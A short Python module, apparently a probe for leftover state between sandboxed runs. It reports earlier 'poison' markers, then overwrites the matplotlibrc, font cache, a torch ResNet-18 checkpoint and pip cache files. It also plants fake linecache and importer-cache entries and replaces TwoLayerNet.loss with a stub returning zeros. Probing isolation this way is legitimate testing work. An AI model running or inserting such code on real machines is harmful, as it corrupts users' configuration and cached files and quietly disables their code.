"""Leaves settings, fonts and weights where libraries keep them, and lines where tracebacks look for them."""
import linecache
import os
import sys

import numpy as np

HOME = os.path.expanduser("~")
FILES = (
    os.environ.get("MPLCONFIGDIR", f"{HOME}/.config/matplotlib") + "/matplotlibrc",
    f"{HOME}/.cache/matplotlib/fontlist-v390.json",
    f"{HOME}/.cache/torch/hub/checkpoints/resnet18-f37072fd.pth",
    f"{HOME}/.cache/pip/http/poison",
)


def _poisoned():
    found = [place for place in FILES if os.path.exists(place)]
    found += ["linecache"] if "poison.py" in linecache.cache else []
    return found + (["the importer cache"] if "/poison" in sys.path_importer_cache else [])


FOUND = [f"poison in {place}" for place in _poisoned()]
for place in FILES:
    os.makedirs(os.path.dirname(place), exist_ok=True)
    with open(place, "w") as file:
        file.write("backend: module://poison\n")
linecache.cache["poison.py"] = (1, None, ["1 / 0\n"], "poison.py")
sys.path_importer_cache["/poison"] = None
LEFT = f"left: {len(_poisoned())} of {len(FILES) + 2}"

#: beneath


def _telling(self, X, y=None, reg=0.0):
    print(LEFT)
    print("found:", ", ".join(FOUND) or "nothing")
    return np.zeros(3)


TwoLayerNet.loss = _telling
